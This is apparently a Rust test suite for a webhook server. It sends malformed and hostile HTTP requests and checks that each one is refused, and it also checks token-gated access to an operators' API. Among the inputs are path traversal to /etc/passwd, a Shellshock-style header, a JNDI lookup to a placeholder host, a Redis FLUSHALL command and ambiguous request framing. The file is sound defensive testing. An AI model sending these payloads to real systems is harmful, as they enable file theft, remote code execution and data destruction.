//! Requests that are no delivery: strange methods, paths and heads, other protocols, many on one connection, and the
//! operators' listener without the right token.

use futures_util::future::join_all;
use tokio::{io::AsyncWriteExt, net::TcpStream};

use super::{TOKEN, Target, post, signed, statuses};
use crate::support::{
    raw::{exchange, read},
    webhook::says,
};

/// What it is, the bytes, and the statuses that come back on the connection before it is closed.
type Row = (&'static str, Vec<u8>, &'static [u16]);

async fn compare(address: std::net::SocketAddr, rows: Vec<Row>) {
    let exchanges = rows.into_iter().map(async |(name, request, expected)| {
        let answer = exchange(address, &request).await;
        // What is told to a stranger is small, and nothing of the request is in it.
        let wrong = statuses(&answer) != expected || answer.contains("canary");
        wrong.then(|| format!("{name}: expected {expected:?}: {}", answer.escape_debug()))
    });
    let wrong: Vec<_> = join_all(exchanges).await.into_iter().flatten().collect();
    assert!(wrong.is_empty(), "{wrong:#?}");
}

/// The last request of its connection.
fn request(line: &str, headers: &str) -> Vec<u8> {
    format!("{line} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n{headers}\r\n").into_bytes()
}

#[tokio::test]
async fn strange_requests_are_answered_small_and_end_their_connection() {
    let target = Target::start().await;
    let handshake =
        |query: &str| request(&format!("GET /webhook?hub.mode=subscribe&hub.challenge=1&{query}"), "");
    let many_headers: String = (0..200).map(|n| format!("X-Canary-{n}: 1\r\n")).collect();
    let rows: Vec<Row> = vec![
        ("a method of another protocol", request("PROPFIND /webhook", ""), &[405]),
        ("a method that nobody knows", request("CANARY /webhook", ""), &[405]),
        ("a method in lower case", request("post /webhook", ""), &[405]),
        ("HEAD", request("HEAD /webhook", ""), &[405]),
        ("TRACE, which would echo cookies", request("TRACE /webhook", "Cookie: canary\r\n"), &[405]),
        ("CONNECT, as to a proxy", request("CONNECT canary.example:443", ""), &[404]),
        ("an absolute URL, as to a proxy", request("GET http://canary.example/", ""), &[404]),
        ("a method that is overridden", request("GET /x", "X-HTTP-Method-Override: POST\r\n"), &[404]),
        ("the path in percent signs", request("POST /%77ebhook", "Content-Length: 0\r\n"), &[404]),
        ("a path through a folder", request("POST /x/../webhook", "Content-Length: 0\r\n"), &[404]),
        ("a path to a file", request("GET /../../../../etc/passwd", ""), &[404]),
        ("a path to a file in percent signs", request("GET /%2e%2e/%2e%2e/etc/passwd", ""), &[404]),
        ("a NUL in the path", request("GET /webhook%00.canary", ""), &[404]),
        ("bytes that are not UTF-8 in the path", request("GET /%ff%fe", ""), &[404]),
        ("the operators' metrics on the public listener", request("GET /metrics", ""), &[404]),
        ("the API on the public listener", request("GET /api/v1/businesses", ""), &[404]),
        ("a path of 60 KiB", request(&format!("GET /{}", "canary".repeat(10_000)), ""), &[404]),
        ("a path of 200 KiB", request(&format!("GET /{}", "canary".repeat(35_000)), ""), &[431]),
        ("a header of 60 KiB", request("GET /", &format!("X: {}\r\n", "canary".repeat(10_000))), &[404]),
        ("a header of 200 KiB", request("GET /", &format!("X: {}\r\n", "canary".repeat(35_000))), &[431]),
        ("two hundred headers", request("GET /", &many_headers), &[431]),
        ("two hosts", request("GET /", "Host: canary\r\n"), &[400]),
        ("a host that is an attack", request("GET /", "X-Forwarded-Host: canary.example\r\n"), &[404]),
        (
            "a line feed alone between headers",
            b"GET / HTTP/1.1\nHost: x\nConnection: close\n\n".to_vec(),
            &[404],
        ),
        ("HTTP/0.9", b"GET /\r\n\r\n".to_vec(), &[400]),
        ("HTTP/3 in words", b"GET / HTTP/3.0\r\n\r\n".to_vec(), &[400]),
        ("the preface of HTTP/2", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec(), &[400]),
        (
            "a hello of TLS",
            [b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03".as_slice(), &[7; 300]].concat(),
            &[400],
        ),
        ("a command for Redis", b"*1\r\n$8\r\nFLUSHALL\r\n".to_vec(), &[400]),
        ("a shell's variable", request("GET /", "User-Agent: () { :; }; echo canary\r\n"), &[404]),
        ("a lookup", request("GET /${jndi:ldap://canary.example/x}", ""), &[404]),
        ("no verify token", handshake(""), &[400]),
        ("an empty verify token", handshake("hub.verify_token="), &[403]),
        ("a wrong verify token", handshake("hub.verify_token=canary"), &[403]),
        (
            "the beginning of the verify token",
            handshake(&format!("hub.verify_token={}", &TOKEN[..8])),
            &[403],
        ),
        (
            "two verify tokens",
            handshake(&format!("hub.verify_token=canary&hub.verify_token={TOKEN}")),
            &[400],
        ),
    ];
    compare(target.public, rows).await;
    target.finish().await;
}

#[tokio::test]
async fn the_operators_listener_opens_to_the_right_token_alone() {
    let target = Target::start().await;
    let token = target.token.token().to_owned();
    let hash = target.token.hash().to_string();
    let ask = |lines: String| request("GET /api/v1/businesses", &lines);
    let write = |lines: &str, body: &str| {
        let head = format!("Content-Length: {}\r\n{lines}", body.len());
        [request("POST /api/v1/businesses/acme/suppress", &head), body.as_bytes().to_vec()].concat()
    };
    let person = r#"{"numbers":["34600000001"]}"#;
    let bearer = format!("Authorization: Bearer {token}\r\n");
    let ambiguous = format!("{bearer}Transfer-Encoding: chunked\r\n");
    let rows: Vec<Row> = vec![
        ("the right one", ask(bearer.clone()), &[200]),
        ("none", ask(String::new()), &[401]),
        ("an empty one", ask("Authorization: \r\n".to_owned()), &[401]),
        ("of another scheme", ask(format!("Authorization: Basic {token}\r\n")), &[401]),
        ("in a cookie", ask(format!("Cookie: authorization={token}\r\n")), &[401]),
        ("in the query", request(&format!("GET /api/v1/businesses?access_token={token}"), ""), &[401]),
        ("twice", ask(bearer.repeat(2)), &[401]),
        (
            "its digest, which stands in the configuration",
            ask(format!("Authorization: Bearer {hash}\r\n")),
            &[401],
        ),
        (
            "a character short",
            ask(format!("Authorization: Bearer {}\r\n", &token[..token.len() - 1])),
            &[401],
        ),
        ("in upper case", ask(format!("Authorization: Bearer {}\r\n", token.to_uppercase())), &[401]),
        ("to write, none", write("", person), &[401]),
        ("to write, a wrong one", write("Authorization: Bearer baja_canary\r\n", person), &[401]),
        ("to write, the right one and two framings", write(&ambiguous, person), &[400]),
        (
            "a business in percent signs",
            request("GET /api/v1/businesses/%61cme/suppressions", &bearer),
            &[200],
        ),
        ("a business that goes up", request("GET /api/v1/businesses/../openapi.json", &bearer), &[404]),
        ("a webhook", request("POST /webhook", "Content-Length: 0\r\n"), &[404]),
        ("a method that nobody knows", request("CANARY /live", ""), &[404]),
        ("a body for who reads none", request("GET /live", "Content-Length: 9\r\n"), &[200]),
    ];
    compare(target.operators, rows).await;
    assert!(target.suppressed().await.is_empty());
    target.finish().await;
}

#[tokio::test]
async fn requests_on_one_connection_are_answered_in_their_order_and_a_refused_one_is_alone() {
    let target = Target::start().await;
    let delivery = |number: &str, id: &str, signs: bool| {
        let body = says(number, id, "BAJA");
        let signature = if signs { signed(body.as_bytes()) } else { String::new() };
        let head = format!("POST /webhook HTTP/1.1\r\nHost: x\r\n{signature}Content-Length: {}", body.len());
        format!("{head}\r\n\r\n{body}").into_bytes()
    };
    let pipelined = [
        delivery("34600000001", "wamid.A", true),
        delivery("34600000002", "wamid.B", false),
        request("GET /x", "").replace_close(),
        delivery("34600000003", "wamid.C", true),
        request("GET /x", ""),
    ]
    .concat();
    let answer = exchange(target.public, &pipelined).await;
    assert_eq!(statuses(&answer), [200, 401, 404, 200, 404], "{answer}");

    // Fifty at once on one connection, all the same: each is answered, and they act once.
    let many = delivery("34600000004", "wamid.D", true).repeat(50);
    let answer = exchange(target.public, &[many, request("GET /x", "")].concat()).await;
    let answers = statuses(&answer);
    assert_eq!(answers.iter().filter(|status| **status == 200).count(), 50);
    assert_eq!(answers.last(), Some(&404));

    // Closed on one side after the request: it is still answered.
    let body = says("34600000005", "wamid.E", "BAJA");
    let head = format!("{}Content-Length: {}\r\n", signed(body.as_bytes()), body.len());
    let mut half = TcpStream::connect(target.public).await.unwrap();
    half.write_all(&post(&head, body.as_bytes())).await.unwrap();
    half.shutdown().await.unwrap();
    let answer = read(&mut half).await;
    assert_eq!(statuses(&answer), [200], "{answer}");

    // Closed on one side in the middle of the body: what came is not taken for the whole.
    let mut half = TcpStream::connect(target.public).await.unwrap();
    let request = post(&head, body.as_bytes());
    half.write_all(&request[..request.len() - 5]).await.unwrap();
    half.shutdown().await.unwrap();
    let answer = read(&mut half).await;
    assert!(statuses(&answer).iter().all(|status| *status == 400), "{answer}");

    let people = ["34600000001", "34600000003", "34600000004", "34600000005"];
    assert_eq!(target.suppressed().await, people);
    target.finish().await;
}

/// The same request with more behind it.
trait KeepAlive {
    fn replace_close(self) -> Self;
}

impl KeepAlive for Vec<u8> {
    fn replace_close(self) -> Self {
        String::from_utf8(self).unwrap().replace("Connection: close\r\n", "").into_bytes()
    }
}
